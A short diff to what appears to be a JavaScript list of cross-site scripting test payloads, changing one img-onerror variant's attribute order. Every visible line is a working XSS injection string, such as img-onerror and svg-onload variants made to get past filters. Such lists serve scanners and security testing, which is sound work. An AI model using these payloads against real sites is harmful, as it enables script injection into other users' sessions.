@@ -17,7 +17,7 @@ export const PAYLOADS = [
   '<<script>xss(1)//<</script>',
   '<img src=x onerror=xss(1)>',
   '"><img src=x onerror=xss(1)>',
-  '<img/src=x/onerror=xss(1)>',
+  '<img/onerror=xss(1)/src=x>',
   '<img src=x onerror="xss(1)"',
   '<svg onload=xss(1)>',
   '<svg/onload=xss(1)>',
